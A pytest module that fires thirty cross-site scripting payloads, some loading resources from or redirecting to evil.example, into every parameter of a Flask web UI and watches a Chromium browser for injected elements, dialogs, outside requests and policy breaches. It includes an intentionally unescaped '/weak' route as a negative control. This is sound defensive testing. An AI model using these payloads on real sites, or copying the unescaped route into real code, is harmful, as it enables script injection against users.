"""Markup in every parameter of every page, in a real browser: nothing of it becomes part of a page, runs, or breaks a rule of the site.

Every page is asked with a harmless word in each of its parameters; where the word comes back in the page, payloads are sent there: thirty,
or one that breaks out of text and attributes alike, if it stands in a place that another page showed in the same way.
The negative control is a page that shows one payload as it came, and must be caught.
"""

from __future__ import annotations

import re
import threading
import urllib.parse
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import NamedTuple

import pytest
from flask import Flask, request
from playwright.sync_api import Browser, BrowserContext, Page, sync_playwright
from waitress.server import create_server

from kg.queries import KnowledgeGraph
from webui import create_app

from . import routes
from .browser import ARGUMENTS, find_browser

# Whatever gets into a page makes an element <x-in>, carries an attribute data-in, runs code or loads something; each is looked for.
PAYLOADS = [
    "<script>alert(1)</script><x-in>",
    "<x-in data-in><img src=x onerror=alert(1)>",
    '"><x-in><svg onload=alert(1)>',
    "'><x-in><img src=x onerror=alert(1)>",
    '" data-in onfocus=alert(1) autofocus x="',
    "' data-in onmouseover='alert(1)",
    " data-in onclick=alert(1) ",
    "javascript:alert(1)//data-in",
    "data:text/html,<x-in><script>alert(1)</script>",
    "</title><x-in><script>alert(1)</script>",
    "</textarea></style></script><x-in><script>alert(1)</script>",
    "--><x-in><script>alert(1)</script><!--",
    "]]><x-in><script>alert(1)</script>",
    "<x-in style=background:url(//evil.example/x)>",
    "<link rel=stylesheet href=//evil.example/x.css><x-in>",
    "<base href=//evil.example/><x-in>",
    "<meta http-equiv=refresh content=0;url=//evil.example/><x-in>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><x-in>",
    "<object data=javascript:alert(1)><x-in>",
    "<form action=//evil.example/><input type=submit autofocus></form><x-in>",
    "<a href=javascript:alert(1)>x</a><x-in>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg><x-in>",
    "<math><mtext><x-in><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><x-in>",
    "<video><source onerror=alert(1)></video><x-in>",
    "{{constructor.constructor('alert(1)')()}}<x-in>",
    "${alert(1)}<x-in>{%raw%}",
    "\\u003cx-in\\u003e\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&lt;x-in&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "<ſcript>alert(1)</ſcript>＜x-in＞\u2028<x-in>\u202e",
]
FEW = [
    "\"'><x-in><script>alert(1)</script><img src=x onerror=alert(1) data-in>"
]  # where words come back as on a page that took all
WATCH = """
window.__broken = [];
document.addEventListener('securitypolicyviolation', e => window.__broken.push(e.effectiveDirective + ' ' + e.blockedURI));
"""
LOOK = """() => [
  ...[...document.querySelectorAll('x-in, [data-in], base, object, iframe, meta[http-equiv], link[href*="evil"], [action*="evil"]')].map(e => e.outerHTML.slice(0, 80)),
  ...[...document.querySelectorAll('[href], [src], [action], [formaction]')].filter(e => /^\\s*(javascript|vbscript|data:text)/i.test(e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('action') || e.getAttribute('formaction') || '')).map(e => e.outerHTML.slice(0, 80)),
  ...[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).map(e => e.outerHTML.slice(0, 80)),
  ...window.__broken]"""


def weaken(app: Flask) -> None:
    """A page that shows what it is asked as it came."""
    app.add_url_rule("/weak", "weak", lambda: f"<!doctype html><title>Weak</title><p>{request.args.get('q', '')}</p>")


@pytest.fixture(scope="module")
def app(kg: KnowledgeGraph) -> Flask:
    app = create_app(kg, LEAVE_URL="/static/style.css")
    weaken(app)
    return app


@pytest.fixture(scope="module")
def site(app: Flask) -> Iterator[str]:
    server = create_server(app, host="127.0.0.1", port=0, threads=4, ident=None)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.effective_port}"
    server.close()
    thread.join(5)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    path = find_browser()
    assert path, "No Chromium. Install it (Debian: apt-get install chromium), or run: make browser"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    context.set_default_timeout(15_000)
    context.add_init_script(WATCH)
    yield context
    context.close()


class Watched:
    """A page of which everything bad is noted: dialogs, other hosts, errors."""

    def __init__(self, context: BrowserContext, site: str) -> None:
        self.page: Page = context.new_page()
        self.noted: list[str] = []
        self.page.on("dialog", lambda dialog: (self.noted.append(f"dialog {dialog.message}"), dialog.dismiss()))
        self.page.on("request", lambda request: self._note(request.url, site))
        self.page.on("pageerror", lambda error: self.noted.append(f"error {error}"))

    def _note(self, address: str, site: str) -> None:
        if not address.startswith((site, "data:,", "about:")):
            self.noted.append(f"asked {address}")

    def look(self) -> list[str]:
        """What is wrong with the page that is open."""
        return [*self.noted, *self.page.evaluate(LOOK)]


class Case(NamedTuple):
    """Somewhere a page shows what it was sent. :ivar rest: the other parameters. :ivar new: no page before shows it in such a place."""

    method: str
    address: str
    name: str = ""
    rest: Mapping[str, str] = MappingProxyType({})
    new: bool = False


def reflecting(app: Flask, knowledge: KnowledgeGraph) -> list[Case]:
    """Wherever a word that is sent as a parameter stands in the page that comes back.

    The switch of languages and the address of the page itself, which carry everything, are looked at once a page, with all parameters at once.
    """
    client, word, found = app.test_client(), "zqxword7", []
    places: set[str] = set()
    for rule in routes.rules(app):
        if not rule.endpoint.startswith("pages.") or rule.endpoint == "pages.healthz":
            continue
        address = routes.fill(rule)
        for method in routes.methods(rule):
            for name in routes.parameters(knowledge)[rule.endpoint]:
                for rest in ({}, *routes.FULL):
                    others = {key: value for key, value in rest.items() if key != name}
                    sent = {"query_string" if method == "GET" else "data": {**others, name: word}}
                    answer = client.open(address, method=method, **sent)  # type: ignore[arg-type]
                    text = re.sub(r'<nav class="languages".*?</nav>', "", answer.text, flags=re.DOTALL)
                    if word in text and word not in answer.headers.get("Location", ""):
                        around = {each.replace(name, "NAME") for each in re.findall(rf".{{0,25}}{word}.{{0,8}}", text)}
                        found.append(Case(method, address, name, others, new=bool(around - places) or name == "q"))
                        places |= around
            found.append(Case(method, address))
        if rule.arguments:
            found.append(Case("PATH", re.sub(r"<[^>]*>", "{}", rule.rule), new=rule.endpoint == "pages.item"))
    return found


def open_with(watched: Watched, site: str, case: Case, payload: str, everything: list[str]) -> None:
    method, address, name, rest, _ = case
    state = {**rest, name: payload} if name else dict.fromkeys(everything, payload)
    if method == "PATH":
        watched.page.goto(site + address.format(urllib.parse.quote(payload, safe="")), wait_until="domcontentloaded")
    elif method == "GET":
        watched.page.goto(f"{site}{address}?{urllib.parse.urlencode(state)}", wait_until="domcontentloaded")
    else:
        with watched.page.expect_navigation(wait_until="domcontentloaded"):
            watched.page.evaluate(
                """([address, state]) => { const form = document.createElement('form'); form.method = 'post'; form.action = address;
                for (const [name, value] of Object.entries(state)) { const input = document.createElement('input'); input.name = name; input.value = value; form.append(input); }
                document.body.append(form); HTMLFormElement.prototype.submit.call(form); }""",
                [site + address, state],
            )


def test_payloads_in_every_parameter_of_every_page_do_nothing(
    context: BrowserContext, app: Flask, site: str, kg: KnowledgeGraph
) -> None:
    assert len(PAYLOADS) == 30
    cases, everything = reflecting(app, kg), routes.every_parameter(kg)
    assert {("GET", "/search", "q"), ("POST", "/search", "q"), ("GET", "/search", "kind")} <= {
        case[:3] for case in cases
    }
    watched = Watched(context, site)
    watched.page.goto(site)
    wrong = []
    for case in cases:
        for payload in PAYLOADS if case.new else FEW:
            open_with(watched, site, case, payload, everything)
            if told := watched.look():
                wrong.append((case, payload, told))
                watched.noted.clear()
    assert wrong == []


def test_payloads_that_are_typed_do_nothing(context: BrowserContext, site: str) -> None:
    watched = Watched(context, site)
    for payload in PAYLOADS:
        watched.page.goto(site)
        watched.page.locator("#q").fill(payload)
        watched.page.wait_for_timeout(200)
        watched.page.get_by_role("button", name="Search", exact=True).click()
        assert watched.look() == [], payload


def test_suggestions_that_hold_markup_are_shown_as_text(context: BrowserContext, site: str) -> None:
    watched = Watched(context, site)
    held = {"query": "x", "suggestions": [{"text": payload, "id": payload, "kind": payload} for payload in PAYLOADS]}
    watched.page.route("**/api/v1/suggest", lambda route: route.fulfill(json=held))
    watched.page.goto(site)
    watched.page.locator("#q").press_sequentially("ab")
    watched.page.locator("[role=option]").nth(29).wait_for()
    assert watched.look() == []


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[1], PAYLOADS[13], PAYLOADS[14], PAYLOADS[20]])
def test_negative_control_a_page_that_escapes_nothing_is_caught(
    context: BrowserContext, site: str, payload: str
) -> None:
    watched = Watched(context, site)
    watched.page.goto(f"{site}/weak?{urllib.parse.urlencode({'q': payload})}")
    assert watched.look(), payload


def test_negative_control_a_breach_of_the_policy_is_noted_by_the_browser(context: BrowserContext, site: str) -> None:
    watched = Watched(context, site)
    watched.page.goto(f"{site}/weak?{urllib.parse.urlencode({'q': '<img src=x onerror=alert(1)>'})}")
    assert any("script-src-attr" in each for each in watched.look())


def test_the_templates_switch_escaping_off_nowhere() -> None:
    folder = Path(__file__).resolve().parent.parent / "webui" / "templates"
    for path in folder.glob("*"):
        if path.is_file():
            assert not re.search(
                r"\|\s*safe\b|autoescape\s+false|style=|\son[a-z]+=", path.read_text(encoding="utf-8")
            ), path
